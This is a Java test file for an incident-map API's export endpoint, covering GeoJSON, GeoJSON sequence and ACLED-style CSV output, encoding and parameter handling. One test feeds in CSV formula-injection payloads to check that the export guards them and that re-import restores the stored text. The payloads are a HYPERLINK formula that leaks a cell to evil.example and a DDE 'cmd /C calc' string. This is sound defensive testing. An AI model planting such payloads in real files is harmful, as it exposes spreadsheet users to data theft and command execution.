package org.incidentmap.incident;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.incidentmap.support.Incidents;
import org.incidentmap.support.PostgisTestResource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The bulk export: every match in one streamed answer, as GeoJSON, GeoJSON text sequence or ACLED-style CSV. */
@QuarkusTest
@QuarkusTestResource(PostgisTestResource.class)
class ExportTest {

    /** A box of the South Indian Ocean that only this test writes to. */
    static final String BOX = "99.5,-40.5,100.5,-39.5";
    static final ObjectMapper JSON = new ObjectMapper();

    private static boolean stored;

    /** Runs before each test (the port is set only then) and stores the test's incidents once. */
    @BeforeEach
    void store() {
        if (stored) {
            return;
        }
        stored = true;
        List<Map<String, Object>> features = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            Map<String, Object> f = Incidents.point("Exported " + i, 100 + i * 0.01, -40);
            Incidents.properties(f).put("actors", List.of("Actor A, with a comma", "Actor \"B\"", "Actor C"));
            Incidents.properties(f).put("description", "Line one\nline two");
            features.add(f);
        }
        Incidents.properties(features.get(4)).put("category", "protests");
        Incidents.properties(features.get(4)).put("sub_category", "peaceful_protest");
        Incidents.properties(features.get(4)).put("external_id", "TST4");
        // before PostgreSQL's epoch (2000-01-01), where its binary timestamps are negative, to the microsecond
        Incidents.properties(features.get(3)).put("occurred_at", "1997-03-14T08:30:00.25Z");
        Incidents.properties(features.get(3)).put("occurred_until", "1999-12-31T23:59:58.000001Z");
        given().contentType("application/geo+json").body(Incidents.collection(features))
                .post("/collections/incidents/items").then().statusCode(201);
    }

    @Test
    void shouldExportEveryMatchAsTheSameFeaturesItemsServe() throws Exception {
        Response export = given().queryParam("bbox", BOX).get("/collections/incidents/export");
        export.then().statusCode(200).contentType("application/geo+json")
                .header("Content-Disposition", containsString("incidents.geojson"))
                .body("type", equalTo("FeatureCollection")).body("numberReturned", equalTo(5));
        JsonNode exported = JSON.readTree(export.asString()).get("features");
        JsonNode items = JSON.readTree(given().queryParam("bbox", BOX).queryParam("limit", 10)
                .get("/collections/incidents/items").asString()).get("features");
        assertEquals(5, exported.size());
        for (int i = 0; i < 5; i++) {
            JsonNode item = items.get(i);
            ((com.fasterxml.jackson.databind.node.ObjectNode) item).remove("links");
            JsonNode same = find(exported, item.get("id").asLong());
            assertEquals(item, same, "the export writes each incident exactly as items does");
        }
    }

    @Test
    void shouldExportTimesBefore2000AsTheyWereStored() throws Exception {
        JsonNode exported = JSON.readTree(given().queryParam("bbox", BOX).get("/collections/incidents/export")
                .asString()).get("features");
        JsonNode p = null;
        for (JsonNode f : exported) {
            if (f.at("/properties/title").asText().equals("Exported 3")) {
                p = f.get("properties");
            }
        }
        assertEquals("1997-03-14T08:30:00.250Z", p.get("occurred_at").asText());
        assertEquals("1999-12-31T23:59:58.000001Z", p.get("occurred_until").asText());
    }

    @Test
    void shouldStreamOneFeaturePerRecordAsAGeoJsonTextSequence() throws Exception {
        Response export = given().queryParam("bbox", BOX).queryParam("f", "geojsonseq")
                .get("/collections/incidents/export");
        export.then().statusCode(200).contentType("application/geo+json-seq");
        String body = export.asString();
        String[] records = body.split("\n");
        assertEquals(5, records.length);
        for (String record : records) {
            assertTrue(record.startsWith("\u001e"), "RFC 8142: each text starts with a record separator");
            assertEquals("Feature", JSON.readTree(record.substring(1)).get("type").asText());
        }
    }

    @Test
    void shouldWriteAcledColumnsWithTheirLabelsAndCodes() {
        String csv = given().queryParam("bbox", BOX).queryParam("category", "protests").queryParam("f", "csv")
                .get("/collections/incidents/export").then().statusCode(200)
                .contentType(startsWith("text/csv")).extract().asString();
        List<List<String>> rows = Csv.parse(csv);
        assertEquals(2, rows.size(), "the header and the one protest");
        List<String> header = rows.get(0);
        assertEquals(List.of("event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type",
                "sub_event_type", "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2"),
                header.subList(0, 12));
        Map<String, String> row = Csv.named(header, rows.get(1));
        assertEquals("TST4", row.get("event_id_cnty"));
        assertEquals("2025-03-04", row.get("event_date"));
        assertEquals("1", row.get("time_precision"));
        assertEquals("Demonstrations", row.get("disorder_type"));
        assertEquals("Protests", row.get("event_type"));
        assertEquals("Peaceful protest", row.get("sub_event_type"));
        assertEquals("Actor A, with a comma", row.get("actor1"));
        assertEquals("Actor \"B\"", row.get("actor2"));
        assertEquals("Actor C", row.get("assoc_actor_2"));
        assertEquals("Line one\nline two", row.get("notes"));
        assertEquals("-40.0", row.get("latitude"));
        assertEquals("100.04", row.get("longitude"));
        assertEquals("Reuters", row.get("source"));
        assertEquals("POINT (100.04 -40.0)", row.get("geometry"));
        assertEquals("[\"Actor A, with a comma\",\"Actor \\\"B\\\"\",\"Actor C\"]", row.get("actors"));
    }

    @Test
    void shouldWriteFreeTextExactlyInEveryFormat() throws Exception {
        // Free text goes out as the database's own UTF-8 bytes: escaping and multi-byte characters must survive.
        String title = "Raid on \"Al-Sheikh Daher\" \\ caf\u00e9 \u2014 \u0627\u0644\u0644\u0627\u0630\u0642\u064a\u0629 \ud83d\ude93";
        String notes = "tab\there, comma; \"quoted\"\r\nsecond line \u00e9";
        Map<String, Object> f = Incidents.point(title, 101.5, -40);
        Incidents.properties(f).put("description", notes);
        Incidents.properties(f).put("location_name", "Lattaqui\u00e9, \"old town\"");
        Incidents.properties(f).put("actors", List.of("Forces de s\u00e9curit\u00e9, \"Lattaqui\u00e9\""));
        long id = Incidents.create(f);
        String box = "101.4,-40.1,101.6,-39.9";

        given().get("/collections/incidents/items/" + id).then().statusCode(200)
                .body("properties.title", equalTo(title)).body("properties.description", equalTo(notes));
        String seq = given().queryParam("bbox", box).queryParam("f", "geojsonseq")
                .get("/collections/incidents/export").then().statusCode(200).extract().asString();
        JsonNode exported = JSON.readTree(seq.substring(1));
        assertEquals(title, exported.at("/properties/title").asText());
        assertEquals(notes, exported.at("/properties/description").asText());
        String csv = given().queryParam("bbox", box).queryParam("f", "csv")
                .get("/collections/incidents/export").then().statusCode(200).extract().asString();
        List<List<String>> rows = Csv.parse(csv);
        Map<String, String> row = Csv.named(rows.get(0), rows.get(1));
        assertEquals(title, row.get("title"));
        assertEquals(notes, row.get("notes"));
        assertEquals("Lattaqui\u00e9, \"old town\"", row.get("location"));
        assertEquals("Forces de s\u00e9curit\u00e9, \"Lattaqui\u00e9\"", row.get("actor1"));
    }

    @Test
    void shouldGuardFormulasInCsvAndImportThemBackAsStored() {
        String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Reuters\")";
        Map<String, Object> f = Incidents.point(title, 102.5, -40);
        Incidents.properties(f).put("admin1", "@SUM(1+1)");
        Incidents.properties(f).put("description", "-2+3 killed");
        Incidents.properties(f).put("actors", List.of("+cmd|' /C calc'!A0"));
        Incidents.properties(f).put("external_id", "TST-FORMULA");
        Incidents.properties(f).put("fatalities", 2);
        Incidents.create(f);
        String box = "102.4,-40.1,102.6,-39.9";

        String csv = given().queryParam("bbox", box).queryParam("f", "csv")
                .get("/collections/incidents/export").then().statusCode(200).extract().asString();
        List<List<String>> rows = Csv.parse(csv);
        Map<String, String> row = Csv.named(rows.get(0), rows.get(1));
        assertEquals("'" + title, row.get("title"));
        assertEquals("'@SUM(1+1)", row.get("admin1"));
        assertEquals("'-2+3 killed", row.get("notes"));
        assertEquals("'+cmd|' /C calc'!A0", row.get("actor1"));
        assertEquals("-40.0", row.get("latitude"));
        assertEquals("2", row.get("fatalities"));

        // The same file imported again stores the text as it was, not with the guard.
        // (an update: the incident is stored already under its external_id)
        given().contentType("text/csv").body(csv).post("/collections/incidents/items").then().statusCode(200);
        given().queryParam("bbox", box).get("/collections/incidents/items").then().statusCode(200)
                .body("features.size()", equalTo(1)).body("features[0].properties.title", equalTo(title))
                .body("features[0].properties.admin1", equalTo("@SUM(1+1)"))
                .body("features[0].properties.description", equalTo("-2+3 killed"));

        String counts = given().queryParam("by", "admin1").queryParam("bbox", box).queryParam("f", "csv")
                .get("/collections/incidents/aggregate").then().statusCode(200).extract().asString();
        assertEquals(List.of("'@SUM(1+1)", "1", "2"), Csv.parse(counts).get(1));
    }

    @Test
    void shouldExportAnUnchangedTableAsTheSameBytes() {
        String first = given().queryParam("f", "csv").get("/collections/incidents/export").then().statusCode(200)
                .extract().asString();
        String second = given().queryParam("f", "csv").get("/collections/incidents/export").then().statusCode(200)
                .extract().asString();
        assertTrue(first.lines().count() > 5, first);
        assertEquals(first, second);
    }

    @Test
    void shouldChooseTheFormatByAcceptWhenFIsAbsent() {
        given().queryParam("bbox", BOX).accept("text/csv").get("/collections/incidents/export")
                .then().statusCode(200).contentType(startsWith("text/csv"));
        given().queryParam("bbox", BOX).accept("application/geo+json-seq").get("/collections/incidents/export")
                .then().statusCode(200).contentType("application/geo+json-seq");
        given().queryParam("bbox", BOX).accept("application/xml").get("/collections/incidents/export")
                .then().statusCode(406).contentType("application/problem+json");
        given().queryParam("f", "xml").get("/collections/incidents/export")
                .then().statusCode(400).contentType("application/problem+json")
                .body("detail", containsString("geojsonseq"));
    }

    @Test
    void shouldCapAtLimitTakeFiltersAndRefuseACursor() {
        given().queryParam("bbox", BOX).queryParam("limit", 2).get("/collections/incidents/export")
                .then().statusCode(200).body("numberReturned", equalTo(2))
                .body("features[0].properties.title", equalTo("Exported 0"));
        given().queryParam("near", "100.04,-40").queryParam("radius", "1km").queryParam("f", "json")
                .get("/collections/incidents/export").then().statusCode(200).contentType("application/json")
                .body("features.properties.title", equalTo(List.of("Exported 4", "Exported 3")))
                .body("features[0].properties.distance_m", equalTo(0.0f));
        given().queryParam("cursor", "abc").get("/collections/incidents/export")
                .then().statusCode(400).body("detail", containsString("cursor"));
        given().queryParam("limit", "0").get("/collections/incidents/export")
                .then().statusCode(400).body("detail", containsString("limit"));
        given().queryParam("region", "nowhere").get("/collections/incidents/export")
                .then().statusCode(400).body("detail", containsString("nowhere"));
    }

    @Test
    void shouldLinkTheExportsFromTheCollection() {
        given().get("/collections/incidents").then().statusCode(200)
                .body("links.findAll { it.rel == 'enclosure' }.type",
                        equalTo(List.of("application/geo+json", "application/geo+json-seq", "text/csv")));
    }

    private static JsonNode find(JsonNode features, long id) {
        for (JsonNode f : features) {
            if (f.get("id").asLong() == id) {
                return f;
            }
        }
        throw new AssertionError("feature " + id + " is not in the export");
    }
}
